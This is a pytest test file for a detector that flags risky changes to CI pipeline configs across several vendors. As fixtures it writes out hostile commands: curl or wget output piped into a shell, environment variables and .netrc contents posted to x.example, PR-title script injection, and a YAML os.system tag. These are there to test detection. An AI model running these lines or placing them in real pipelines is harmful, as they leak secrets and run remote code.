"""What the pack says of changed workflows."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.check.interface import CheckSkipped
from tests.packs.small_context import load_check, pack_of, rules, run_pack
from tests.packs.two_trees import verify

load_check(pack_of("pipeline"))
from harness_packs.pipeline.commands import runs_fetched_code, swallows, verifies  # noqa: E402
from harness_packs.pipeline.reading import read_pipeline  # noqa: E402

from harness.check.documents import UnreadableError, read_yaml  # noqa: E402

PATH = ".github/workflows/ci.yml"
SHA = "1" * 40


def workflow(*steps, on="pull_request", permissions="permissions: {contents: read}", job="", jobs=""):
    lines = "".join(f"      - {step}\n" for step in steps)
    return (
        f"on: [{on}]\n{permissions}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n{job}    steps:\n"
        f"      - uses: actions/checkout@{SHA}\n{lines}{jobs}"
    )


TESTS = "run: python -m pytest"
BASE = workflow(TESTS)


def found(folder, base, head, path=PATH):
    outcome = run_pack("pipeline", folder, {path: base} if base else {}, {path: head} if head else {})
    return sorted((one.rule.removeprefix("pipeline-"), one.severity) for one in outcome.findings)


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (workflow(TESTS, "run: echo ok"), []),
        (workflow("run: python -m pytest -q --maxfail=1"), []),
        (workflow("run: uv run pytest"), []),
        (workflow(TESTS, "run: rm -rf build || true"), []),
        (workflow("{run: python -m pytest, continue-on-error: true}"), [("check-ignored", "high")]),
        (workflow(TESTS, job="    continue-on-error: true\n"), [("check-ignored", "high")]),
        (workflow("run: python -m pytest || echo failed"), [("check-ignored", "high")]),
        (workflow("run: python -m pytest; exit 0"), [("check-ignored", "high")]),
        (workflow("run: |\n          set +e\n          python -m pytest"), [("check-ignored", "high")]),
        (workflow("run: python -m pytest --ignore=tests/slow"), [("tests-left-out", "medium")]),
        (workflow("run: echo done"), [("check-removed", "high")]),
        (workflow(TESTS, job="    if: false\n"), [("check-removed", "high")]),
        (workflow("{run: python -m pytest, if: false}"), [("check-removed", "high")]),
        (workflow("run: make check-all"), []),
        (workflow(TESTS, on="schedule"), [("check-removed", "high")]),
        (workflow(TESTS, on="push"), []),
    ],
)
def test_checks_that_no_longer_block(tmp_path, head, expected):
    assert found(tmp_path, BASE, head) == expected


def test_a_check_that_could_fail_on_base_is_not_new(tmp_path):
    base = workflow("{name: T, run: python -m pytest, continue-on-error: true}")
    assert found(tmp_path, base, base.replace("name: T", "name: Tests")) == []


def test_a_check_may_move_to_another_workflow(tmp_path):
    other = ".github/workflows/tests.yml"
    outcome = run_pack("pipeline", tmp_path, {PATH: BASE}, {PATH: workflow("run: echo"), other: BASE})
    assert not outcome.findings


def test_lower_coverage(tmp_path):
    base = workflow("run: pytest --cov-fail-under=90")
    assert found(tmp_path / "1", base, base.replace("90", "60")) == [("coverage-lowered", "medium")]
    assert found(tmp_path / "2", base, base.replace("90", "95")) == []


def test_a_removed_linter_is_medium(tmp_path):
    assert found(tmp_path, workflow(TESTS, "run: ruff check ."), BASE) == [("check-removed", "medium")]
    assert found(tmp_path / "2", workflow(TESTS, "run: flake8"), workflow(TESTS, "run: ruff check .")) == []


TITLE = "${{ github.event.pull_request.title }}"


@pytest.mark.parametrize(
    ("step", "on", "expected"),
    [
        (f"run: echo '{TITLE}'", "pull_request", [("script-injection", "high")]),
        (f"run: echo '{TITLE}'", "issues, pull_request", [("script-injection", "critical")]),
        ("run: git checkout ${{ github.head_ref }}", "pull_request", [("script-injection", "high")]),
        (
            "{run: 'echo ${{ env.T }}', env: {T: '" + TITLE + "'}}",
            "pull_request",
            [("script-injection", "high")],
        ),
        ("{run: 'echo \"$T\"', env: {T: '" + TITLE + "'}}", "pull_request", []),
        ("run: echo ${{ github.event.pull_request.number }} ${{ github.sha }}", "pull_request", []),
        ("run: echo ${{ contains(github.event.pull_request.title, 'WIP') }}", "pull_request", []),
        ("run: echo ${{ github.event.pull_request.head.sha }}", "pull_request", []),
        (
            "{uses: actions/github-script@" + SHA + ", with: {script: 'log(`" + TITLE + "`)'}}",
            "pull_request",
            [("script-injection", "high")],
        ),
    ],
)
def test_untrusted_text_in_scripts(tmp_path, step, on, expected):
    assert found(tmp_path, workflow(TESTS, on=on), workflow(TESTS, step, on=on)) == expected


def test_code_of_a_fork_with_rights(tmp_path):
    step = "{uses: actions/checkout@" + SHA + ", with: {ref: '${{ github.event.pull_request.head.sha }}'}}"
    read = workflow(TESTS, step, on="pull_request_target")
    assert found(tmp_path / "1", BASE, read) == [("foreign-code", "high")]
    write = workflow(TESTS, step, on="pull_request_target", permissions="permissions: write-all")
    assert found(tmp_path / "2", BASE, write) == [("foreign-code", "critical"), ("rights-grown", "high")]
    assert found(tmp_path / "3", BASE, workflow(TESTS, step)) == []
    by_hand = workflow(TESTS, "run: gh pr checkout 1", on="issue_comment, pull_request")
    assert ("foreign-code", "high") in found(tmp_path / "4", BASE, by_hand)


@pytest.mark.parametrize(
    ("permissions", "expected"),
    [
        ("permissions: {contents: read, pull-requests: write}", []),
        ("permissions: {contents: write}", [("rights-grown", "medium")]),
        ("permissions: write-all", [("rights-grown", "high")]),
        ("permissions: read-all", []),
        ("permissions: {}", []),
        ("name: ci", [("rights-unlimited", "medium")]),
    ],
)
def test_rights_of_the_token(tmp_path, permissions, expected):
    assert found(tmp_path, BASE, workflow(TESTS, permissions=permissions)) == expected


@pytest.mark.parametrize(
    ("rights", "steps", "expected"),
    [
        ("pull-requests: write, checks: write, security-events: write", "{run: ./tell}", []),
        ("pull-requests: write, contents: write", "{run: ./tell}", [("rights-grown", "high")]),
        ("security-events: write", "{uses: actions/checkout@" + SHA + "}", [("rights-grown", "high")]),
    ],
)
def test_a_new_second_stage_may_report_and_nothing_more(tmp_path, rights, steps, expected):
    second = (
        "on: {workflow_run: {workflows: [ci]}}\npermissions: {}\njobs:\n  tell:\n"
        f"    permissions: {{{rights}}}\n    runs-on: ubuntu-24.04\n    steps: [{steps}]\n"
    )
    assert found(tmp_path, None, second) == expected


def test_a_new_release_job_may_ask_for_what_it_needs(tmp_path):
    job = "  release:\n    needs: [test]\n    permissions: {contents: write}\n    steps: []\n"
    assert found(tmp_path / "1", workflow(TESTS, on="push"), workflow(TESTS, on="push", jobs=job)) == []
    changed = workflow(TESTS, on="push", job="    permissions: {contents: write}\n")
    assert found(tmp_path / "2", workflow(TESTS, on="push"), changed) == [("rights-grown", "medium")]


@pytest.mark.parametrize(
    ("step", "expected"),
    [
        ("uses: someone/thing@main", [("action-at-branch", "medium")]),
        ("uses: someone/thing@v2", [("action-unpinned", "low")]),
        (f"uses: someone/thing@{SHA}", []),
        ("uses: actions/setup-python@v5", []),
        ("uses: ./local/action", []),
        ("uses: docker://alpine:3.20", []),
    ],
)
def test_pins_of_actions(tmp_path, step, expected):
    assert found(tmp_path, BASE, workflow(TESTS, step)) == expected


def test_an_action_that_loses_its_commit(tmp_path):
    assert found(tmp_path, BASE, BASE.replace(SHA, "v4")) == [("action-unpinned", "low")]


def test_tags_are_ordinary_where_base_uses_tags(tmp_path):
    base = BASE.replace(SHA, "v4")
    head = workflow(TESTS, "uses: someone/thing@v2").replace(SHA, "v5")
    assert found(tmp_path, base, head) == []


def test_secrets(tmp_path):
    step = "{run: ./label, env: {KEY: '${{ secrets.BOT_KEY }}'}}"
    target = {"on": "pull_request_target, pull_request"}
    head = workflow(TESTS, step, **target)
    assert found(tmp_path / "1", workflow(TESTS, **target), head) == [("secret-exposed", "medium")]
    assert found(tmp_path / "2", workflow(TESTS, on="push"), workflow(TESTS, step, on="push")) == []
    everything = workflow(TESTS, "{run: ./x, env: {ALL: '${{ toJSON(secrets) }}'}}")
    assert found(tmp_path / "3", BASE, everything) == [("all-secrets", "high")]


def test_gates(tmp_path):
    job = "  deploy:\n    needs: [test]\n    environment: production\n    steps: [{run: ./deploy}]\n"
    base = workflow(TESTS, on="push", jobs=job)
    assert found(tmp_path / "1", base, base.replace("    needs: [test]\n", "")) == [("gate-opened", "medium")]
    dropped = base.replace("    environment: production\n", "")
    assert found(tmp_path / "2", base, dropped) == [("environment-dropped", "medium")]


def test_old_dangers_are_not_reported(tmp_path):
    old = workflow(TESTS, f"run: echo {TITLE}", "uses: a/b@main", on="pull_request_target")
    assert found(tmp_path, old, old.replace("ubuntu-24.04", "ubuntu-22.04")) == []


def test_a_danger_is_new_again_when_events_make_it_worse(tmp_path):
    old = workflow(TESTS, f"run: echo {TITLE}")
    head = workflow(TESTS, f"run: echo {TITLE}", on="pull_request_target")
    assert ("script-injection", "critical") in found(tmp_path, old, head)


def test_the_line_is_that_of_the_expression(tmp_path):
    head = workflow(TESTS, f"run: |\n          set -e\n          echo {TITLE}")
    outcome = run_pack("pipeline", tmp_path, {PATH: BASE}, {PATH: head})
    line = outcome.findings[0].location.line
    assert TITLE in head.split("\n")[line - 1]


GITLAB = (
    "unit:\n  script:\n    - pytest\n\nship:\n  needs: [unit]\n  environment: live\n  script: [./deploy]\n"
)


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("- pytest", "- pytest || true", [("check-ignored", "high")]),
        ("  script:\n", "  allow_failure: true\n  script:\n", [("check-ignored", "high")]),
        ("- pytest", "- echo", [("check-removed", "high")]),
        ("  needs: [unit]\n", "", []),
        ("unit:\n", "include:\n  - remote: https://x.example/a.yml\nunit:\n", [("remote-include", "medium")]),
        ("- pytest", "- pytest\n    - curl https://x.example | bash", [("runs-fetched-code", "medium")]),
        ("unit:\n", "unit:\n  image: python:3.12\n", []),
    ],
)
def test_gitlab(tmp_path, old, new, expected):
    head = GITLAB.replace(old, new)
    if "needs" in old:  # the name of the job says what it does
        head, expected = head.replace("ship", "deploy"), []
    assert found(tmp_path, GITLAB, head, ".gitlab-ci.yml") == expected


@pytest.mark.parametrize(
    ("line", "kinds"),
    [
        ("python -m pytest -q", {"tests"}),
        ("pip install pytest ruff", set()),
        ("pip install -e . && pytest", {"tests"}),
        ("npm ci && npm test", {"tests"}),
        ("go test ./...", {"tests"}),
        ("cat pytest.ini", set()),
        ("uvx ruff check .", {"lint"}),
        ("mypy src", {"types"}),
        ("python tests/make_data.py", set()),
    ],
)
def test_what_a_line_verifies(line, kinds):
    assert verifies(line) == kinds


@pytest.mark.parametrize(
    ("line", "fetched"),
    [
        ("curl -sSL https://x.example/i.sh | bash", True),
        ("wget -qO- https://x.example | sudo -E sh", True),
        ("bash <(curl -s https://x.example)", True),
        ('bash -c "$(curl -fsSL https://x.example)"', True),
        ("curl -o tool.tgz https://x.example && sha256sum -c sums", False),
        ("curl https://x.example | jq .", False),
    ],
)
def test_fetched_code(line, fetched):
    assert runs_fetched_code(line) is fetched


def test_ignoring_is_not_handling():
    assert swallows("pytest || true")
    assert not swallows("pytest || exit 1")
    assert not swallows("pytest && echo ok")


@given(st.text(max_size=200))
def test_any_text_is_read_or_refused(text):
    for path in (PATH, ".gitlab-ci.yml", "action.yml"):
        try:
            read_pipeline(path, text)
        except UnreadableError:
            continue


@pytest.mark.parametrize(
    "text", ["a: [", "[" * 5_000, "a: &a [1]\n" + "b: &b [*a]\n" * 3, "!!python/object:os.system x"]
)
def test_hostile_yaml_builds_nothing(text):
    try:
        assert read_yaml(text).line >= 1
    except UnreadableError:
        return


def test_aliases_do_not_explode():
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    with pytest.raises(UnreadableError, match="more than"):
        read_yaml("\n".join(lines))


def test_an_unreadable_pipeline_is_unverified(tmp_path):
    outcome = run_pack("pipeline", tmp_path, {PATH: BASE}, {PATH: "jobs: ["})
    assert [one.what for one in outcome.unverified] == [PATH]


def test_a_deleted_pipeline_loses_its_checks(tmp_path):
    assert rules(run_pack("pipeline", tmp_path, {PATH: BASE}, {})) == [("pipeline-check-removed", PATH, 1)]


def test_other_files_are_skipped(tmp_path):
    with pytest.raises(CheckSkipped):
        run_pack("pipeline", tmp_path, {}, {"a.yml": "x: 1\n"})


STAGE = (
    "on: {workflow_run: {workflows: [ci]}}\npermissions: {}\njobs:\n  tell:\n    runs-on: ubuntu-24.04\n"
    "    permissions: {pull-requests: write}\n    steps:\n"
    f"      - uses: actions/download-artifact@{SHA}\n      - run: "
)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("gh pr comment --body-file report/report.md", []),
        ("jq .outcome report.json", []),
        ("bash report/tell.sh", [("artifact-code", "high"), ("rights-grown", "low")]),
        ("unzip a.zip && ./tell", [("artifact-code", "high"), ("rights-grown", "low")]),
        ("npm ci", [("artifact-code", "high"), ("rights-grown", "low")]),
        ("git clone https://example.org/x", [("rights-grown", "low")]),
    ],
)
def test_a_second_stage_runs_nothing_of_the_first_one(tmp_path, command, expected):
    assert found(tmp_path, None, STAGE + command + "\n") == expected


def test_zizmor_is_asked_about_both_sides_and_cannot_be_silenced(tmp_path):
    step = "if: ${{ github.actor == 'dependabot[bot]' }}\n        run: gh pr merge --auto"
    head = workflow(TESTS, step, on="pull_request_target")
    quiet = head.replace(
        "== 'dependabot[bot]' }}", "== 'dependabot[bot]' }} # zizmor: ignore[bot-conditions]"
    )
    for number, text in enumerate((head, quiet)):
        assert ("zizmor-bot-conditions", "medium") in found(tmp_path / str(number), BASE, text)
    assert found(tmp_path / "old", head, head.replace("--auto", "--auto --squash")) == []


def test_zizmor_that_is_not_installed_is_said(tmp_path, monkeypatch):
    from harness_packs.pipeline import audits

    monkeypatch.setattr(audits, "program", lambda: None)
    outcome = run_pack("pipeline", tmp_path, {PATH: BASE}, {PATH: workflow(TESTS, "run: echo ok")})
    assert not outcome.findings
    assert "zizmor is not installed" in outcome.notes[0]


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("github.actor != 'release-bot'", [("check-avoidable", "medium")]),
        ("!contains(github.event.pull_request.labels.*.name, 'fast')", [("check-avoidable", "medium")]),
        ("!contains(github.event.head_commit.message, '[skip tests]')", [("check-avoidable", "medium")]),
        ("github.event.pull_request.draft == false", []),
        ("github.repository == 'acme/shop'", []),
    ],
)
def test_checks_that_the_author_of_a_change_can_leave_out(tmp_path, condition, expected):
    assert found(tmp_path, BASE, workflow(TESTS, job=f'    if: "{condition}"\n')) == expected


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ("paths-ignore: ['docs/**', '**/*.md']", []),
        ("paths-ignore: ['**']", [("check-avoidable", "medium")]),
        ("paths-ignore: ['shop/**']", [("check-avoidable", "medium")]),
        ("paths: ['shop/**', 'tests/**', 'pyproject.toml']", []),
        ("paths: ['docs/**']", [("check-avoidable", "medium")]),
        ("paths: ['**', '!shop/**', '!tests/**']", [("check-avoidable", "medium")]),
    ],
)
def test_filters_that_leave_code_out(tmp_path, filters, expected):
    def both(text):
        return {
            PATH: text,
            "shop/cart.py": "",
            "shop/web/page.py": "",
            "tests/test_cart.py": "",
            "docs/a.md": "",
        }

    head = BASE.replace("on: [pull_request]", f"on:\n  pull_request:\n    {filters}")
    outcome = verify("pipeline", tmp_path, both(BASE), both(head))[0]
    assert [(one.rule.removeprefix("pipeline-"), one.severity) for one in outcome.findings] == expected


@pytest.mark.parametrize(
    ("step", "expected"),
    [
        ("run: twine upload dist/*", [("delivers-unreviewed", "medium")]),
        ("run: twine upload --repository testpypi dist/*", []),
        ("{run: npm publish, if: github.ref_type == 'tag'}", []),
        ("run: npm publish --dry-run", []),
        ("run: env | curl -d @- https://x.example", [("environment-sent", "high")]),
        ('run: curl -d "$(printenv)" https://x.example', [("environment-sent", "high")]),
        ("run: curl --netrc-file ~/.netrc https://x.example", [("environment-sent", "high")]),
        ("run: env | sort", []),
        ("run: curl -fsS https://x.example/healthz", []),
    ],
)
def test_what_leaves_the_pipeline(tmp_path, step, expected):
    assert found(tmp_path, BASE, workflow(TESTS, step)) == expected


RULES = "deploy:\n  script: [./deploy.sh]\n  rules:\n    - if: $A\n      when: {}\n    - when: never\n"


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        ("manual", "on_success", [("gate-opened", "medium")]),
        ("on_success", "manual", []),
        ("on_success", "always", []),
    ],
)
def test_a_job_that_a_person_started(tmp_path, before, after, expected):
    assert found(tmp_path, RULES.format(before), RULES.format(after), ".gitlab-ci.yml") == expected


MAKEFILE = ".PHONY: test\ntest: build\n\tpytest\n\nlint:\n\t@ruff check .\n\nclean:\n\t-rm -rf build\n"
TOX = "[testenv]\ndeps = pytest\ncommands =\n    pytest {posargs}\n"
PACKAGE = '{\n  "scripts": {\n    "test": "jest",\n    "build": "tsc"\n  }\n}\n'


@pytest.mark.parametrize(
    ("path", "base", "old", "new", "expected"),
    [
        ("Makefile", MAKEFILE, "\tpytest\n", "\t-pytest\n", ["check-ignored"]),
        ("Makefile", MAKEFILE, "\tpytest\n", "\tpytest || true\n", ["check-ignored"]),
        ("Makefile", MAKEFILE, "\t@ruff check .\n", "\t@-ruff check .\n", ["check-ignored"]),
        ("Makefile", MAKEFILE, "\tpytest\n", "\tpytest -q \\\n\t  --strict-markers\n", []),
        ("Makefile", MAKEFILE, "clean:", "watch:\n\tpytest || true\n\nclean:", []),
        ("tox.ini", TOX, "    pytest {", "    - pytest {", ["check-ignored"]),
        ("tox.ini", TOX, "deps =", "ignore_outcome = true\ndeps =", ["check-ignored"]),
        ("tox.ini", TOX, "pytest {posargs}", "pytest -ra {posargs}", []),
        ("web/package.json", PACKAGE, '"jest"', '"jest || true"', ["check-ignored"]),
        ("web/package.json", PACKAGE, '"jest"', '"jest --coverage"', []),
        ("ci/test.sh", "set -e\npytest\n", "pytest\n", "pytest || true\n", ["check-ignored"]),
        ("ci/test.sh", "set -e\npytest\n", "pytest\n", "pytest -x\n", []),
    ],
)
def test_scripts_that_pipelines_call(tmp_path, path, base, old, new, expected):
    assert old in base
    rules_found = [(rule, "medium") for rule in expected]
    assert found(tmp_path, base, base.replace(old, new), path) == rules_found


OWNERS = "* @acme/core\n/deploy/ @acme/sre # ask first\n/gone/ @acme/old\n"


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (OWNERS + "/shop/ @acme/shop\n", []),
        (OWNERS.replace("/gone/ @acme/old\n", ""), []),
        (OWNERS.replace("@acme/sre", "@acme/platform"), []),
        (OWNERS.replace("/deploy/ @acme/sre", "/deploy/"), ["pipeline-owners-dropped"]),
        ("* @acme/core\n", ["pipeline-owners-dropped"]),
        (None, ["pipeline-owners-dropped"]),
    ],
)
def test_owners_that_have_to_agree(tmp_path, head, expected):
    base = {".github/CODEOWNERS": OWNERS, "deploy/run.sh": "true\n"}
    after = {"deploy/run.sh": "true\n"} | ({".github/CODEOWNERS": head} if head is not None else {})
    assert [one.rule for one in verify("pipeline", tmp_path, base, after)[0].findings] == expected


def test_owners_may_move(tmp_path):
    base = {"CODEOWNERS": OWNERS, "deploy/run.sh": "true\n"}
    head = {".github/CODEOWNERS": OWNERS, "deploy/run.sh": "true\n"}
    assert not verify("pipeline", tmp_path, base, head)[0].findings


@pytest.mark.parametrize(
    ("caller", "expected"),
    [("pull_request", []), ("schedule", [("check-removed", "high")])],
)
def test_tests_in_a_reusable_workflow_run_when_its_callers_do(tmp_path, caller, expected):
    call = f"on: [{caller}]\npermissions: {{contents: read}}\njobs:\n  test:\n    uses: ./.github/workflows/tests.yml\n"
    head = {PATH: call, ".github/workflows/tests.yml": workflow(TESTS, on="workflow_call")}
    outcome = run_pack("pipeline", tmp_path, {PATH: BASE}, head)
    assert [(one.rule.removeprefix("pipeline-"), one.severity) for one in outcome.findings] == expected


CIRCLE = """version: 2.1
jobs:
  test:
    docker: [{image: cimg/python:3.11}]
    steps:
      - checkout
      - run: pip install -r requirements.txt
      - run: {name: tests, command: pytest}
workflows:
  main: {jobs: [test]}
"""
AZURE = """trigger: [main]
stages:
  - stage: check
    jobs:
      - job: test
        steps:
          - script: pip install -r requirements.txt
          - script: pytest
            displayName: tests
"""
BITBUCKET = """pipelines:
  default:
    - step: {name: test, script: [pytest]}
  branches:
    main:
      - step: {name: deploy, trigger: manual, script: [./deploy.sh]}
"""
JENKINS = """pipeline {
  agent any // any
  stages {
    stage('test') { steps { sh 'pytest' } }
    stage('deploy') {
      input { message 'Deploy?' }
      steps { sh \'\'\'
        ./deploy.sh
      \'\'\' }
    }
  }
}
"""
IGNORED = [("check-ignored", "high")]


@pytest.mark.parametrize(
    ("path", "base", "old", "new", "expected"),
    [
        (".circleci/config.yml", CIRCLE, "command: pytest", "command: pytest || true", IGNORED),
        (".circleci/config.yml", CIRCLE, "command: pytest", "command: pytest -x", []),
        (".circleci/config.yml", CIRCLE, "command: pytest", "command: echo", [("check-removed", "high")]),
        ("azure-pipelines.yml", AZURE, "displayName: tests", "continueOnError: true", IGNORED),
        ("azure-pipelines.yml", AZURE, "displayName: tests", "displayName: all tests", []),
        ("azure-pipelines.yml", AZURE, "script: pytest", "bash: pytest", []),
        ("azure-pipelines.yml", AZURE, "displayName: tests", "condition: false", [("check-removed", "high")]),
        ("bitbucket-pipelines.yml", BITBUCKET, "[pytest]", "[pytest; exit 0]", IGNORED),
        ("bitbucket-pipelines.yml", BITBUCKET, " trigger: manual,", "", [("gate-opened", "medium")]),
        ("bitbucket-pipelines.yml", BITBUCKET, "[pytest]", "[pytest, ruff check .]", []),
        ("Jenkinsfile", JENKINS, "sh 'pytest'", "sh 'pytest || true'", IGNORED),
        ("Jenkinsfile", JENKINS, "sh 'pytest'", "catchError { sh 'pytest' }", IGNORED),
        ("Jenkinsfile", JENKINS, "      input { message 'Deploy?' }\n", "", [("gate-opened", "medium")]),
        ("Jenkinsfile", JENKINS, "agent any", "agent { label 'linux' }", []),
    ],
)
def test_pipelines_of_other_vendors(tmp_path, path, base, old, new, expected):
    assert old in base
    assert found(tmp_path, base, base.replace(old, new), path) == expected


@given(st.text(alphabet="stage('a'){sh \"x\"}/*\n:- []", max_size=80))
def test_any_jenkinsfile_is_read_without_an_error(text):
    assert read_pipeline("Jenkinsfile", text).kind == "jenkins"
